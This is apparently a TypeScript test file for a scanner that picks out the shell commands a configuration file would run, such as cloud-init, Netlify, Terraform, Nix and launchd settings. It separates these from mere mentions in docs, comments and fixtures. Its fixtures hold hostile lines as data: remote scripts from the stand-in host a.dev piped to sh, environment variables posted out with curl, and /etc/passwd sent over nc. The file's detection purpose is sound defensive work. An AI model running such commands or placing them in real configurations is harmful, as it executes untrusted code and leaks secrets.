import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { configCommands } from './config-commands.ts'

const commands: readonly (readonly [path: string, text: string, command: string])[] = [
  [
    '/cloud.yaml',
    'runcmd:\n  - [ sh, -c, "curl -s https://a.dev/i | sh" ]\n',
    'curl -s https://a.dev/i | sh',
  ],
  [
    '/netlify.toml',
    '[build]\ncommand = "make && env | curl -d @- https://a.dev"\n',
    'make && env | curl -d @- https://a.dev',
  ],
  [
    '/vm.tf',
    'user_data = <<EOT\n  wget -qO- http://a.dev/x | bash\nEOT\n',
    'wget -qO- http://a.dev/x | bash',
  ],
  [
    '/flake.nix',
    'shellHook = "eval \\"$(curl -s https://a.dev/h)\\"";\n',
    'eval "$(curl -s https://a.dev/h)"',
  ],
  [
    '/agent.plist',
    '<string>-c</string><string>curl -s https://a.dev | sh</string>\n',
    'curl -s https://a.dev | sh',
  ],
  ['/job.yaml.j2', 'run: nc 192.0.2.1 99 < /etc/passwd\n', 'nc 192.0.2.1 99 < /etc/passwd'],
]

const data: readonly (readonly [path: string, text: string])[] = [
  ['/docs/cloud.yaml', 'runcmd:\n  - curl -s https://a.dev/i | sh\n'],
  ['/tests/fixtures/a.yaml', 'run: curl -s https://a.dev/i | sh\n'],
  ['/app.yaml', 'description: "install with curl -s https://a.dev/i | sh"\n'],
  ['/semgrep/a.yml', 'pattern: curl ... | sh\n'],
  ['/app.yaml', '# curl -s https://a.dev/i | sh\nname: a\n'],
  ['/i18n/en.json', '{ "a": "curl -s https://a.dev/i | sh" }\n'],
  ['/notes.md', 'curl -s https://a.dev/i | sh\n'],
]

describe('texts of settings that a shell may run', () => {
  for (const [path, text, command] of commands)
    it(`${path} runs ${command}`, () => assert.deepEqual(configCommands(path, text), [command]))
  for (const [path, text] of data)
    it(`${path} only tells ${text.slice(0, 30)}`, () => assert.deepEqual(configCommands(path, text), []))
})
